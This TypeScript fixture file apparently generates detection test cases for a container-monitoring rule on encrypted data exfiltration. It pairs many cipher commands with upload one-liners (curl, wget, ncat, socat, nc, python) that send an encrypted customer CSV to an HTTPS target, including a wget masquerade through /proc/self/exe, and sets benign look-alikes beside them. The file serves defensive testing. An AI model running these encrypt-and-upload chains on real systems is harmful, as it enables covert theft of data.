// ADS-0005: encryption then upload by the processes of one container, and ordinary cipher use.
import type { Fixture } from '../../live/format.js';
import type { Variant } from '../types.js';
import { RULES, step, container, entrypoint, exec, shq, type Spec, variants } from './steps.js';

const DATA_SETUP = [step('mkdir -p "$WORK/data" && printf "id,card\\n1,4111111111111111\\n" > "$WORK/data/customers.csv"')];
const DATA = '-v "$WORK:/w:ro" -v "$WORK/data:/mnt/data"';

interface Cipher {
  id: string;
  cmd: string;
  out: string;
  text: string;
}
interface Upload {
  id: string;
  cmd: (file: string) => string;
  text: string;
}

const CIPHERS: Cipher[] = [
  {
    id: 'chacha20',
    cmd: '/usr/bin/openssl enc -chacha20 -pbkdf2 -pass pass:x -in /mnt/data/customers.csv -out /tmp/c.bin',
    out: '/tmp/c.bin',
    text: 'openssl enc -chacha20',
  },
  {
    id: 'aes-shorthand',
    cmd: '/usr/bin/openssl aes-128-cbc -pbkdf2 -k x -in /mnt/data/customers.csv -out /tmp/c.bin',
    out: '/tmp/c.bin',
    text: 'the openssl aes-128-cbc shorthand',
  },
  { id: 'des3', cmd: '/usr/bin/openssl des3 -pbkdf2 -pass pass:x -in /mnt/data/customers.csv -out /tmp/c.bin', out: '/tmp/c.bin', text: 'openssl des3' },
  {
    id: 'camellia',
    cmd: '/usr/bin/openssl enc -e -camellia-256-cbc -pbkdf2 -pass pass:x -in /mnt/data/customers.csv -out /tmp/c.bin',
    out: '/tmp/c.bin',
    text: 'openssl enc -e -camellia-256-cbc',
  },
  {
    id: 'cms',
    cmd: '/usr/bin/openssl cms -encrypt -aes256 -binary -in /mnt/data/customers.csv -out /tmp/c.bin -outform DER /w/cert.pem',
    out: '/tmp/c.bin',
    text: 'openssl cms -encrypt to a certificate',
  },
  {
    id: 'gpg-c',
    cmd: 'mkdir -p /tmp/g && /usr/bin/gpg --homedir /tmp/g --batch --pinentry-mode loopback --passphrase x -o /tmp/c.bin -c /mnt/data/customers.csv',
    out: '/tmp/c.bin',
    text: 'gpg -c',
  },
  {
    id: 'gpg-symmetric',
    cmd: 'mkdir -p /tmp/g && /usr/bin/gpg --homedir /tmp/g --batch --pinentry-mode loopback --passphrase x --cipher-algo AES256 -o /tmp/c.bin --symmetric /mnt/data/customers.csv',
    out: '/tmp/c.bin',
    text: 'gpg --symmetric --cipher-algo AES256',
  },
  {
    id: 'gpg-flag-group',
    cmd: 'mkdir -p /tmp/g && /usr/bin/gpg --homedir /tmp/g --batch --pinentry-mode loopback --passphrase x -o /tmp/c.bin -ac /mnt/data/customers.csv',
    out: '/tmp/c.bin',
    text: 'gpg -ac (armor and symmetric in one flag group)',
  },
  { id: 'zip-p', cmd: 'cd /tmp && /usr/bin/zip -q -P x c.zip /mnt/data/customers.csv', out: '/tmp/c.zip', text: 'zip -P' },
  { id: 'zip-password', cmd: 'cd /tmp && /usr/bin/zip -q --password x c.zip /mnt/data/customers.csv', out: '/tmp/c.zip', text: 'zip --password' },
  { id: '7z-p', cmd: '/usr/lib/p7zip/7z a -bd -pSecret -mhe=on /tmp/c.7z /mnt/data/customers.csv >/dev/null', out: '/tmp/c.7z', text: '7z a -p -mhe=on' },
  {
    id: 'age',
    cmd: '/usr/bin/age-keygen -o /tmp/k 2>/dev/null && /usr/bin/age -e -i /tmp/k -o /tmp/c.bin /mnt/data/customers.csv',
    out: '/tmp/c.bin',
    text: 'age -e to a generated identity',
  },
  { id: 'ccrypt', cmd: 'cp /mnt/data/customers.csv /tmp/c && /usr/bin/ccrypt -e -K x /tmp/c', out: '/tmp/c.cpt', text: 'ccrypt -e -K' },
];

const UPLOADS: Upload[] = [
  { id: 'curl-t', cmd: (f) => `/usr/bin/curl -sk -T ${f} "$0"`, text: 'curl -T' },
  { id: 'curl-form', cmd: (f) => `/usr/bin/curl -sk -F "file=@${f}" "$0"`, text: 'curl -F file=@' },
  { id: 'curl-data-binary', cmd: (f) => `/usr/bin/curl -sk --data-binary @${f} "$0"`, text: 'curl --data-binary @' },
  { id: 'curl-put-upload', cmd: (f) => `/usr/bin/curl -skX PUT --upload-file ${f} "$0"`, text: 'curl -X PUT --upload-file' },
  { id: 'curl-flag-group', cmd: (f) => `/usr/bin/curl -skT ${f} "$0"`, text: 'curl -skT (flag group)' },
  { id: 'curl-json', cmd: (f) => `/usr/bin/curl -sk --json @${f} "$0"`, text: 'curl --json @' },
  { id: 'bb-wget', cmd: (f) => `/bin/wget --post-file ${f} --no-check-certificate -q -O /dev/null "$0"`, text: 'busybox wget --post-file' },
  {
    id: 'bb-wget-selfexe',
    cmd: (f) => `(exec -a wget /proc/self/exe --post-file ${f} --no-check-certificate -q -O /dev/null "$0")`,
    text: 'busybox wget through /proc/self/exe',
  },
  {
    id: 'gnu-wget-put',
    cmd: (f) => `/usr/bin/wget -q --no-check-certificate --method=PUT --body-file=${f} -O /dev/null "$0"`,
    text: 'GNU wget --method=PUT --body-file',
  },
  { id: 'ncat-ssl', cmd: (f) => `/usr/bin/ncat --ssl --send-only "$1" "$2" < ${f}`, text: 'ncat --ssl --send-only' },
  { id: 'curl-urlencode', cmd: (f) => `/usr/bin/curl -sk --data-urlencode "f@${f}" "$0"`, text: 'curl --data-urlencode name@file' },
  {
    id: 'python-put',
    cmd: (f) =>
      `/usr/bin/python3 -c "import urllib.request as u,ssl,sys; u.urlopen(u.Request(sys.argv[1], data=open(sys.argv[2],'rb').read(), method='PUT'), context=ssl._create_unverified_context())" "$0" ${f}`,
    text: 'python3 urllib Request(data=..., method=PUT)',
  },
  { id: 'socat-openssl', cmd: (f) => `/usr/bin/socat -u FILE:${f} OPENSSL:"$1":"$2",verify=0`, text: 'socat FILE: to OPENSSL:' },
  { id: 'bb-nc', cmd: (f) => `/bin/nc "$1" "$2" < ${f}`, text: 'busybox nc with the file on stdin' },
];

const HTTPS_ARGS = '"$HTTPS_URL" "$HTTPS_HOST" "$HTTPS_PORT"';
const CERT_SETUP = step(
  'cp "$HTTPS_CERT" "$WORK/cert.pem" 2>/dev/null || openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=x -keyout "$WORK/key.pem" -out "$WORK/cert.pem" -days 1 2>/dev/null',
);

const T = 'T1048.001';

/** Every cipher and every upload at least once, each twice in all, in the container's command or through docker exec. */
function encryptThenUpload(): Spec[] {
  const pairs: Array<[Cipher, Upload]> = [];
  // every cipher and every upload at least once, each twice in all
  for (let i = 0; i < 25; i++) pairs.push([CIPHERS[i % CIPHERS.length]!, UPLOADS[(i * 5 + 3) % UPLOADS.length]!]);
  const positives: Spec[] = pairs.map(([c, u], i) => {
    const viaExec = i % 2 === 1;
    const id = `exf-${c.id}-${u.id}${viaExec ? '-exec' : ''}`.slice(0, 36);
    const description = `${viaExec ? 'Through docker exec' : "As the container's own command"}: ${c.text}, then ${u.text} to the HTTPS target.`;
    if (!viaExec) {
      return {
        id,
        kind: 'positive',
        family: 'cipher',
        technique: T,
        expect: [RULES.encryptUploadProc],
        needs: ['https'],
        description,
        setup: [...DATA_SETUP, CERT_SETUP],
        steps: [entrypoint(`${c.cmd} && ${u.cmd(c.out)}; sleep 1`, { network: true, mounts: DATA, args: HTTPS_ARGS })],
      };
    }
    return {
      id,
      kind: 'positive',
      family: 'cipher',
      technique: T,
      expect: [RULES.encryptUploadProc, RULES.encryptUploadExec],
      needs: ['https'],
      description,
      setup: [...DATA_SETUP, CERT_SETUP],
      steps: [container({ network: true, mounts: DATA }), exec(`sh -c ${shq(c.cmd)}`), exec(`sh -c ${shq(u.cmd(c.out))} ${HTTPS_ARGS}`)],
    };
  });
  return positives;
}

type OrdinaryCipher = Omit<Spec, 'kind' | 'family'>;

/** Encryption that stays local, and uploads of what was not encrypted. */
function localCiphers(): OrdinaryCipher[] {
  return [
    {
      id: 'backup-openssl-local',
      description: 'Nightly backup container: tar the app data and encrypt it with openssl enc into its own backup volume; nothing leaves.',
      steps: [
        entrypoint('tar -cf /tmp/a.tar -C /mnt/data . && /usr/bin/openssl enc -aes-256-cbc -pbkdf2 -pass pass:b -in /tmp/a.tar -out /backup/a.tar.enc', {
          mounts: '-v "$WORK/data:/mnt/data:ro" -v "$WORK/backup:/backup"',
        }),
      ],
      setup: [...DATA_SETUP, step('mkdir -p "$WORK/backup"')],
    },
    {
      id: 'backup-gpg-local',
      description: 'Database dump encrypted with gpg --symmetric to a local backup directory (documented pg_dump | gpg -c pattern).',
      steps: [
        entrypoint(
          'mkdir -p /tmp/g && /usr/bin/gpg --homedir /tmp/g --batch --pinentry-mode loopback --passphrase b -o /backup/dump.gpg --symmetric /mnt/data/customers.csv',
          { mounts: '-v "$WORK/data:/mnt/data:ro" -v "$WORK/backup:/backup"' },
        ),
      ],
      setup: [...DATA_SETUP, step('mkdir -p "$WORK/backup"')],
    },
    {
      id: 'ci-publish-report',
      needs: ['https'] as Fixture[],
      description: 'CI job publishes an unencrypted test report with curl -T.',
      setup: DATA_SETUP,
      steps: [entrypoint('/usr/bin/curl -sk -T /mnt/data/customers.csv "$0"', { network: true, mounts: DATA, args: HTTPS_ARGS })],
    },
    {
      id: 'decrypt-config-then-report',
      needs: ['https'],
      description: 'A deploy job decrypts its config with openssl enc -d, then posts an unencrypted status report (curl -F).',
      // the "encrypted config" is random bytes: encrypting it on the host here would be an encryption of its own
      setup: [...DATA_SETUP, step('head -c 64 /dev/urandom > "$WORK/data/config.enc"')],
      steps: [
        entrypoint(
          '/usr/bin/openssl enc -d -aes-256-cbc -pbkdf2 -pass pass:k -in /mnt/data/config.enc -out /tmp/config 2>/dev/null; /usr/bin/curl -sk -F "report=@/mnt/data/customers.csv" "$0"',
          { network: true, mounts: DATA, args: HTTPS_ARGS },
        ),
      ],
    },
    {
      id: 'base64-encode-then-post',
      needs: ['https'],
      description: 'openssl enc -base64 (an encoding, no cipher) of a certificate, then an API call with --data-binary @.',
      setup: DATA_SETUP,
      steps: [
        entrypoint('/usr/bin/openssl enc -base64 -in /mnt/data/customers.csv -out /tmp/b64 && /usr/bin/curl -sk --data-binary @/tmp/b64 "$0"', {
          network: true,
          mounts: DATA,
          args: HTTPS_ARGS,
        }),
      ],
    },
    {
      id: 'encrypt-then-download',
      needs: ['https'],
      description: 'Backup encrypts locally, then fetches its next schedule with a plain curl GET (no upload).',
      setup: DATA_SETUP,
      steps: [
        entrypoint(
          '/usr/bin/openssl enc -aes-256-cbc -pbkdf2 -pass pass:b -in /mnt/data/customers.csv -out /tmp/c.enc && /usr/bin/curl -sk -o /dev/null "$0"',
          { network: true, mounts: DATA, args: HTTPS_ARGS },
        ),
      ],
    },
    {
      id: 'encrypt-then-webhook',
      needs: ['https'],
      description: 'Backup encrypts locally, then notifies a chat webhook with an inline JSON body (curl -d literal, no file).',
      setup: DATA_SETUP,
      steps: [
        entrypoint(
          '/usr/bin/openssl enc -aes-256-cbc -pbkdf2 -pass pass:b -in /mnt/data/customers.csv -out /tmp/c.enc && /usr/bin/curl -sk -H "Content-Type: application/json" -d "{\\"text\\":\\"backup done\\"}" "$0"',
          { network: true, mounts: DATA, args: HTTPS_ARGS },
        ),
      ],
    },
    {
      id: 'encrypt-then-port-wait',
      needs: ['https'],
      description: 'Backup encrypts locally, then waits for the database port with nc -z (zero-I/O scan mode).',
      setup: DATA_SETUP,
      steps: [
        entrypoint('/usr/bin/openssl enc -aes-256-cbc -pbkdf2 -pass pass:b -in /mnt/data/customers.csv -out /tmp/c.enc && /bin/nc -z -w 2 "$1" "$2"', {
          network: true,
          mounts: DATA,
          args: HTTPS_ARGS,
        }),
      ],
    },
  ];
}

/** Ordinary downloads, certificates, archives and probes next to a cipher. */
function ordinaryTransfers(): OrdinaryCipher[] {
  return [
    {
      id: 'wget-artifact-download',
      needs: ['https'],
      description: 'Build step downloads an artefact with wget -O and checks it with sha256sum.',
      steps: [entrypoint('/bin/wget --no-check-certificate -q -O /tmp/a "$0"; sha256sum /tmp/a || true', { network: true, args: HTTPS_ARGS })],
    },
    {
      id: 'nginx-selfsigned-cert',
      description: 'nginx entrypoint generates a self-signed certificate (openssl req -x509 -newkey) and a digest.',
      steps: [
        entrypoint(
          '/usr/bin/openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=localhost -keyout /tmp/k.pem -out /tmp/c.pem -days 1 2>/dev/null && /usr/bin/openssl dgst -sha256 /tmp/c.pem',
        ),
      ],
    },
    {
      id: 'zip-artifact-upload',
      needs: ['https'],
      description: 'CI packages build output with zip (no password) and uploads it with curl -T.',
      setup: DATA_SETUP,
      steps: [
        entrypoint('cd /tmp && /usr/bin/zip -q -r site.zip /mnt/data && /usr/bin/curl -sk -T /tmp/site.zip "$0"', {
          network: true,
          mounts: DATA,
          args: HTTPS_ARGS,
        }),
      ],
    },
    {
      id: '7z-archive-upload',
      needs: ['https'],
      description: 'Log archiver compresses with 7z (no password) and uploads over HTTPS.',
      setup: DATA_SETUP,
      steps: [
        entrypoint('/usr/lib/p7zip/7z a -bd /tmp/logs.7z /mnt/data >/dev/null && /usr/bin/curl -sk -T /tmp/logs.7z "$0"', {
          network: true,
          mounts: DATA,
          args: HTTPS_ARGS,
        }),
      ],
    },
    {
      id: 'gpg-verify-download',
      needs: ['https'],
      description: 'Installer downloads a release and verifies it with gpg --verify (fails without a signature; the check is the point).',
      steps: [
        entrypoint('/usr/bin/curl -sk -o /tmp/r "$0"; mkdir -p /tmp/g; /usr/bin/gpg --homedir /tmp/g --batch --verify /tmp/r 2>/dev/null; true', {
          network: true,
          args: HTTPS_ARGS,
        }),
      ],
    },
    {
      id: 'cert-expiry-probe',
      needs: ['https'],
      description: 'Monitoring probe: openssl rand for a nonce, then openssl s_client -connect to read the certificate expiry.',
      steps: [
        entrypoint(
          '/usr/bin/openssl rand -hex 8 >/dev/null && echo | /usr/bin/openssl s_client -connect "$1:$2" -servername x 2>/dev/null | /usr/bin/openssl x509 -noout -enddate',
          { network: true, args: HTTPS_ARGS },
        ),
      ],
    },
    {
      id: 'wget-healthcheck',
      needs: ['https'],
      description: 'Container healthcheck with busybox wget --spider, after an encrypted local backup.',
      setup: DATA_SETUP,
      steps: [
        entrypoint(
          '/usr/bin/openssl enc -aes-256-cbc -pbkdf2 -pass pass:b -in /mnt/data/customers.csv -out /tmp/c.enc && /bin/wget -q --spider --no-check-certificate "$0" || true',
          { network: true, mounts: DATA, args: HTTPS_ARGS },
        ),
      ],
    },
  ];
}

export function exfiltration(): Variant[] {
  const benign = [...localCiphers(), ...ordinaryTransfers()].map((b): Spec => ({ ...b, kind: 'benign', family: 'cipher' }));
  return variants('ADS-0005', [...encryptThenUpload(), ...benign]);
}
